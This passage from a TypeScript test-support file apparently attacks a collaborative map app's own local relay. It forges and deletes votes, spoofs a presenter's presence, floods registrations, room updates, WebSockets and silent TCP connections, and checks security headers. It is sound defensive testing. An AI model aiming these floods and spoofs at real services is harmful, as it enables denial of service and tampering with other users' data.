      ['otherVotersDotDeleted', (d) => void takeBackDot(d, liar, { roundId, cardId: 'card-1', voterId }), () => voterDot !== null && !dotsMap(owner.doc).has(voterDot)],
      [
        'inventedVoterDots',
        (d) => {
          for (let i = 0; i < 10; i++) placeDot(d, liar, { roundId, cardId: 'card-2', voterId: `invented-voter-${i}`, voterName: `Ghost ${i}` });
        },
        () => readDots(owner.doc, roundId).filter((dot) => dot.voterId.startsWith('invented-voter-')).length >= 10,
      ],
      ['openRoundRevealed', (d) => void revealRound(d, liar, roundId), () => readRound(owner.doc, roundId)?.status === 'revealed'],
    ];
    let denied = 0;
    for (const [name, act, reached] of steps) {
      const attacker = stockClient(port, feedbackRoom, commentToken, attackerSecret);
      clients.push(attacker);
      if (!(await until(() => attacker.provider.synced, 10_000))) {
        figures[name] = -1;
        continue;
      }
      // what the attacker's copy must show before it can act (the round, the voter's dot)
      await until(() => readRound(attacker.doc, roundId) !== null && (voterDot === null || dotsMap(attacker.doc).has(voterDot) || !dotsMap(owner.doc).has(voterDot)), 2000);
      act(attacker.doc);
      figures[name] = (await until(reached, settleMs)) ? 1 : 0;
      denied += attacker.denied.length;
      attacker.destroy();
      clients.splice(clients.indexOf(attacker), 1);
    }
    figures.inventedDotsReached = readDots(owner.doc, roundId).filter((d) => d.voterId.startsWith('invented-voter-')).length;
    figures.inventedDotsCounted = countedDots(owner.doc, roundId).filter((d) => d.voterId.startsWith('invented-voter-')).length;
    figures.permissionDenied = denied;

    // --- the view link poses as the presenter ---
    const url = `ws://127.0.0.1:${port}/sync`;
    const Polyfill = WebSocket as unknown as typeof globalThis.WebSocket;
    // the owner presents: their presence, from their own connection to the map room
    const ownerPresence = stockClient(port, mapId, ownerToken, ownerSecret);
    clients.push(ownerPresence);
    ownerPresence.provider.awareness.setLocalState({
      user: { id: ownerId, name: 'Owner', color: '#059669' },
      cursor: null,
      selection: [],
      view: { area: null, stageId: 'stage-the-owner-presents', presenting: true },
    });
    if (readPresenter(owner.doc)?.id !== ownerId) setPresenter(owner.doc, ownerActor, { id: ownerId, name: 'Owner' });
    // a participant following along, reading peers exactly as the app does
    const followerSecret = newIdentitySecret();
    const follower = new SyncSession(
      new Y.Doc(),
      mapId,
      { token: commentToken, identitySecret: followerSecret },
      { id: identityIdOf(followerSecret)!, name: 'Participant', color: '#d97706' },
      { serverUrl: url, WebSocketPolyfill: Polyfill },
    );
    sessions.push(follower);
    const followerFeedback = stockClient(port, feedbackRoom, commentToken, newIdentitySecret());
    clients.push(followerFeedback);
    const followed = () => presenterPeer(follower.peers(), readPresenter(followerFeedback.doc));
    const ownerClient = ownerPresence.provider.awareness.clientID;
    figures.followsOwnerBefore = (await until(() => followed()?.clientId === ownerClient, 10_000)) ? 1 : 0;

    const spoofClient = 2 ** 32 - 1;
    const spoof = await openSocket(port, mapId, viewToken, { params: { identity: attackerSecret } });
    sockets.push(spoof);
    spoof.send(
      awarenessFrame([
        {
          clientId: spoofClient,
          clock: 1,
          json: presenceJson('Owner', ownerId, { area: { x: 0, y: 0, width: 400, height: 300 }, stageId: 'stage-the-attacker-wants', presenting: true }),
        },
      ]),
    );
    figures.spoofSeenByFollower = (await until(() => follower.peers().some((p) => p.clientId === spoofClient), settleMs)) ? 1 : 0;
    figures.followsSpoof = followed()?.clientId === spoofClient ? 1 : 0;
  } catch (error) {
    figures.failed = 1;
    console.error(`workshopSubversion: ${(error as Error).message}`);
  } finally {
    for (const ws of sockets) ws.terminate();
    for (const session of sessions) session.destroy();
    for (const client of clients) client.destroy();
  }
  return figures;
}

// ---------------------------------------------------------------------------------------------
// f. Quotas
// ---------------------------------------------------------------------------------------------

export interface RegistrationArgs extends RunOptions {
  port: number;
  concurrency?: number;
}

/** Anonymous map registrations from one address, fresh ids, as fast as they are answered. */
export async function registrationFlood(args: RegistrationArgs): Promise<Figures> {
  const { port, signal, concurrency = 8 } = args;
  const figures: Figures = {};
  const start = performance.now();
  const deadline = start + (args.durationMs ?? 3000);
  let n = 0;
  const prefix = `reg-${process.pid}-${Date.now().toString(36)}`;
  await Promise.all(
    Array.from({ length: concurrency }, async () => {
      while (performance.now() < deadline && !signal?.aborted) {
        try {
          const res = await fetch(`http://127.0.0.1:${port}/api/maps`, {
            method: 'POST',
            headers: { 'Content-Type': 'application/json' },
            body: JSON.stringify({ id: `${prefix}-${++n}` }),
          });
          await res.arrayBuffer();
          bump(figures, `status${res.status}`);
        } catch {
          bump(figures, 'errors');
          await sleep(50, signal);
        }
      }
    }),
  );
  const seconds = (performance.now() - start) / 1000;
  figures.seconds = seconds;
  figures.created = figures.status201 ?? 0;
  figures.createdPerSecond = figures.created / seconds;
  return figures;
}

export interface RoomBytesArgs extends Target, RunOptions {
  /** stop after this many bytes were sent */
  maxBytes?: number;
  chunkBytes?: number;
  /** below the relay's 8 MiB/s per connection */
  bytesPerSecond?: number;
}

/**
 * The owner of a map pushes large updates (text, `chunkBytes` each) into its room until the relay
 * refuses (a close other than for rate, or a refused upgrade) or `maxBytes` are sent, reconnecting
 * after rate-limit closes; then a fresh connection asks for the whole room and the size of the
 * answer is what the room took.
 */
export async function roomBytes(args: RoomBytesArgs): Promise<Figures> {
  const { port, room, token, signal, maxBytes = 100 * 1024 * 1024, chunkBytes = 1024 * 1024, bytesPerSecond = 6 * 1024 * 1024 } = args;
  const figures: Figures = { sentBytes: 0, updates: 0 };
  const deadline = performance.now() + (args.durationMs ?? 60_000);
  // each chunk its own document and root type: no update depends on another, so one the relay
  // dropped (a close with messages still queued) does not hold up the rest
  const chunk = (i: number) => {
    const doc = new Y.Doc();
    doc.getText(`t${i}`).insert(0, randomBytes(Math.ceil((chunkBytes * 3) / 4)).toString('base64').slice(0, chunkBytes));
    const update = Y.encodeStateAsUpdate(doc);
    doc.destroy();
    return update;
  };
  const start = performance.now();
  let stopCode = 0;
  while (figures.sentBytes! < maxBytes && !stopCode && !signal?.aborted && performance.now() < deadline) {
    let ws: WebSocket;
    try {
      ws = await openSocket(port, room, token);
    } catch (error) {
      figures.refusedStatus = error instanceof UpgradeRefused ? error.status : 0;
      break;
    }
    // the relay closes a sender for its rate (1008), or one that does not read (1013): an attacker
    // comes back; any other close is the relay refusing the room more
    let closedCode = 0;
    ws.once('close', (code) => {
      closedCode = code;
      bump(figures, `closed${code}`);
      if (code !== 1008 && code !== 1013 && code !== 1006) stopCode = code;
    });
    while (figures.sentBytes! < maxBytes && !closedCode && !signal?.aborted && performance.now() < deadline) {
      const allowed = ((performance.now() - start) / 1000) * bytesPerSecond + chunkBytes;
      if (figures.sentBytes! + chunkBytes > allowed || ws.bufferedAmount > 2 * chunkBytes) {
        await sleep(20, signal);
        continue;
      }
      const frame = updateFrame(chunk(figures.updates!));
      ws.send(frame);
      figures.sentBytes! += frame.length;
      figures.updates!++;
    }
    if (!closedCode) {
      await sleep(1500);
      ws.close();
      break;
    }
    bump(figures, 'reconnects');
    await sleep(200, signal);
  }
  figures.stopCode = stopCode;
  figures.seconds = (performance.now() - start) / 1000;
  try {
    const reader = await openSocket(port, room, token, { maxPayload: 0 });
    figures.acceptedBytes = await roomSize(reader, 60_000);
    reader.terminate();
  } catch {
    figures.acceptedBytes = -1;
  }
  return figures;
}

export interface SocketCountArgs extends RunOptions {
  port: number;
  /** rooms to spread the sockets over (a room takes MAX_CONNECTIONS_PER_ROOM) */
  targets: ReadonlyArray<{ room: string; token: string }>;
  max?: number;
  /** how long the sockets are held once open */
  holdMs?: number;
}

/** WebSocket upgrades from one address: how many the relay accepts, over as many rooms as it takes. */
export async function socketCount(args: SocketCountArgs): Promise<Figures> {
  const { port, targets, signal, max = 2000, holdMs = 1000 } = args;
  const figures: Figures = { opened: 0, refused: 0 };
  const open: WebSocket[] = [];
  let room = 0;
  let refusedInARow = 0;
  while (open.length < max && room < targets.length && !signal?.aborted && refusedInARow < 3) {
    const batch = Math.min(25, max - open.length);
    const target = targets[room]!;
    const results = await Promise.allSettled(Array.from({ length: batch }, () => openSocket(port, target.room, target.token)));
    let refusedHere = 0;
    for (const result of results) {
      if (result.status === 'fulfilled') {
        open.push(result.value);
        figures.opened!++;
        refusedInARow = 0;
      } else {
        figures.refused!++;
        refusedHere++;
        const status = result.reason instanceof UpgradeRefused ? result.reason.status : 0;
        bump(figures, `status${status}`);
        figures.firstRefusalAfter ??= open.length;
        figures.firstRefusalStatus ??= status;
      }
    }
    if (refusedHere) {
      refusedInARow++;
      room++; // this room is full (or we are refused): the next one
    }
  }
  figures.roomsUsed = Math.min(room + 1, targets.length);
  await sleep(holdMs, signal);
  figures.stillOpen = open.filter((ws) => ws.readyState === WebSocket.OPEN).length;
  for (const ws of open) ws.terminate();
  return figures;
}

export interface SilentTcpArgs extends RunOptions {
  port: number;
  count?: number;
}

/**
 * Plain TCP connections to the one port that never send a byte. Figures: how many opened, how
 * many the server closed within `durationMs` (it stops early once all are closed) and after how long.
 */
export async function silentTcp(args: SilentTcpArgs): Promise<Figures> {
  const { port, signal, count = 3000 } = args;
  const figures: Figures = { opened: 0, connectFailed: 0, closedByServer: 0 };
  const closeAfter: number[] = [];
  const sockets: net.Socket[] = [];
  const start = performance.now();
  for (let from = 0; from < count && !signal?.aborted; from += 200) {
    await Promise.all(
      Array.from({ length: Math.min(200, count - from) }, () =>
        new Promise<void>((resolve) => {
          const socket = net.connect({ host: '127.0.0.1', port });
          let openedAt = 0;
          socket.once('connect', () => {
            openedAt = performance.now();
            figures.opened!++;
            sockets.push(socket);
            resolve();
          });
          socket.on('error', () => {});
          socket.once('close', () => {
            if (!openedAt) {
              figures.connectFailed!++;
              resolve();
              return;
            }
            if (!(socket as net.Socket & { mine?: boolean }).mine) {
              figures.closedByServer!++;
              closeAfter.push(performance.now() - openedAt);
            }
          });
          socket.on('data', () => bump(figures, 'gotData'));
        }),
      ),
    );
  }
  figures.openSeconds = (performance.now() - start) / 1000;
  const deadline = start + (args.durationMs ?? 100_000);
  while (performance.now() < deadline && !signal?.aborted && figures.closedByServer! < figures.opened!) await sleep(250, signal);
  figures.stillOpen = figures.opened! - figures.closedByServer!;
  figures.closedAfterMinS = closeAfter.length ? Math.min(...closeAfter) / 1000 : -1;
  figures.closedAfterP50S = closeAfter.length ? percentile(closeAfter, 50) / 1000 : -1;
  figures.closedAfterMaxS = closeAfter.length ? Math.max(...closeAfter) / 1000 : -1;
  figures.watchedSeconds = (performance.now() - start) / 1000;
  for (const socket of sockets) {
    (socket as net.Socket & { mine?: boolean }).mine = true;
    socket.destroy();
  }
  return figures;
}

// ---------------------------------------------------------------------------------------------
// g. HTTP
// ---------------------------------------------------------------------------------------------

/** Response headers (lower-case) and the bytes on the wire, undecoded. */
function rawGet(port: number, path: string, headers: Record<string, string> = {}, method = 'GET', body?: string): Promise<{ status: number; headers: http.IncomingHttpHeaders; bytes: number; text: string }> {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port, path, method, headers, agent: false }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => {
        const buf = Buffer.concat(chunks);
        resolve({ status: res.statusCode ?? 0, headers: res.headers, bytes: buf.length, text: res.headers['content-encoding'] ? '' : buf.toString('utf8') });
      });
      res.on('error', reject);
    });
    req.on('error', reject);
    req.setTimeout(10_000, () => req.destroy(new Error('timeout')));
    req.end(body);
  });
}

export const SECURITY_HEADERS = [
  'content-security-policy',
  'x-content-type-options',
  'x-frame-options',
  'referrer-policy',
  'strict-transport-security',
  'permissions-policy',
  'cross-origin-opener-policy',
  'cross-origin-resource-policy',
] as const;

export interface HttpArgs {
  port: number;
  /** a map that exists, to POST /api/maps again */
  existingId: string;
}

/**
 * The HTTP side: security headers on the app's page, whether the biggest script under /assets is
 * served compressed (and how big), whether /metrics answers without a token, and what POST
 * /api/maps answers for an id that exists.
 */
export async function httpChecks(args: HttpArgs): Promise<Figures> {
  const { port, existingId } = args;
  const figures: Figures = {};
  const page = await rawGet(port, '/', { 'Accept-Encoding': 'br, gzip' });
  figures.pageStatus = page.status;
  for (const header of SECURITY_HEADERS) figures[`page:${header}`] = page.headers[header] ? 1 : 0;
  const api = await rawGet(port, '/api/maps/x/access');
  for (const header of ['x-content-type-options', 'content-security-policy']) figures[`api:${header}`] = api.headers[header] ? 1 : 0;
  const html = page.headers['content-encoding'] ? (await rawGet(port, '/')).text : page.text;
  const scripts = [...html.matchAll(/(?:src|href)="(\/assets\/[^"]+\.js)"/g)].map((m) => m[1]!);
  figures.scripts = scripts.length;
  let biggest = { path: '', identity: 0, wire: 0, encoded: 0, cache: 0 };
  for (const script of scripts) {
    const plain = await rawGet(port, script);
    const wire = await rawGet(port, script, { 'Accept-Encoding': 'br, gzip' });
    if (plain.bytes > biggest.identity) {
      biggest = { path: script, identity: plain.bytes, wire: wire.bytes, encoded: wire.headers['content-encoding'] ? 1 : 0, cache: /immutable/.test(String(wire.headers['cache-control'])) ? 1 : 0 };
    }
  }
  figures.assetBytes = biggest.identity;
  figures.assetBytesOnWire = biggest.wire;
  figures.assetCompressed = biggest.encoded;
  figures.assetImmutable = biggest.cache;
  figures.metricsStatus = (await rawGet(port, '/metrics')).status;
  const again = await rawGet(port, '/api/maps', { 'Content-Type': 'application/json' }, 'POST', JSON.stringify({ id: existingId }));
  figures.postExistingStatus = again.status;
  figures.postExistingSaysRegistered = /registered|exists/i.test(again.text) ? 1 : 0;
  const fresh = await rawGet(port, '/api/maps', { 'Content-Type': 'application/json' }, 'POST', JSON.stringify({ id: `fresh-${Date.now().toString(36)}` }));
  figures.postFreshStatus = fresh.status;
  return figures;
}

// ---------------------------------------------------------------------------------------------
// By name, for tests/support/attackRunner.ts
// ---------------------------------------------------------------------------------------------

export const ATTACKS = {
  deepAwareness,
  awarenessIdFlood,
  cheapRequestFlood,
  calibrateNearBudget,
  nearBudgetUpdates,
  workshopSubversion,
  registrationFlood,
  roomBytes,
  socketCount,
  silentTcp,
  httpChecks,
} as const;

export type AttackName = keyof typeof ATTACKS;
/** An attack's arguments, without the signal (that is the runner's). */
export type AttackArgs<N extends AttackName> = Omit<Parameters<(typeof ATTACKS)[N]>[0], 'signal'>;
